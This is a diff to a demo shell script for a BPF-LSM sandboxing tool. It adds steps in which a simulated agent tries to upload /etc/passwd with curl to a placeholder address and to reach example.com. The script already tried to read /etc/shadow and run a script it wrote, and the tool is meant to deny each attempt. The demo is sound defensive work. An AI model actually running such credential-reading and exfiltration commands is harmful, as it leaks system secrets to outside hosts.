@@ -1,7 +1,8 @@
 #!/bin/sh
 # The demo's body: one run under examples/demo.yaml that writes once inside its
-# workspace (allowed) and once outside it (denied), tries to read /etc/shadow
-# and to run a script it wrote (both denied), then shows the audit stream.  scripts/demo runs it on this host or, when the host kernel cannot
+# workspace (allowed) and once outside it (denied), tries to read /etc/shadow,
+# to run a script it wrote and to reach the network by address and by name
+# (all denied), then shows the audit stream.  scripts/demo runs it on this host or, when the host kernel cannot
 # run BPF-LSM, inside the test VM.  Needs root.
 tether=${TETHER:-tether}
 envelope=${1:-examples/demo.yaml}
@@ -23,6 +24,12 @@ echo "\$ tether run --envelope $envelope --audit $audit --audit-allowed -- /bin/
 	printf "#!/bin/sh\\necho payload ran\\n" > /tmp/tether-demo/workspace/payload.sh
 	chmod +x /tmp/tether-demo/workspace/payload.sh
 	/tmp/tether-demo/workspace/payload.sh 2>/dev/null || echo "agent:   denied"
+	echo "agent: uploading to 198.51.100.7 (no destination is allowed)"
+	curl -sS -m 3 --data-binary @/etc/passwd http://198.51.100.7/ >/dev/null 2>&1 &&
+		echo "agent:   sent" || echo "agent:   denied"
+	echo "agent: resolving example.com (no hostname is allowed)"
+	curl -sS -m 3 http://example.com/ >/dev/null 2>&1 &&
+		echo "agent:   fetched" || echo "agent:   denied"
 	exit 0'
 status=$?
 echo
